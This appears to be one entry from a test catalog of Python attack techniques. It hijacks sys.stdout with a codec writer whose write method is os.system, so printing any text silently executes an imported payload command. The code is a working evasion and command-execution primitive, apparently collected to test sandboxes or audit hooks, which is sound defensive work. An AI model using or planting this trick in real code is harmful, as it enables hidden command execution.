"""A codec's writer encodes what is printed as a command, for a C function."""
CATEGORY = "deferred"
REACH = "run"

import codecs
import os
import sys
import types

from . import payload


def encode(text, errors):
    return payload.COMMAND.encode(), len(text)


def attack():
    writer = codecs.StreamWriter(
        types.SimpleNamespace(write=os.system, flush=int))
    writer.encode = encode
    vars(sys)["stdout"] = writer

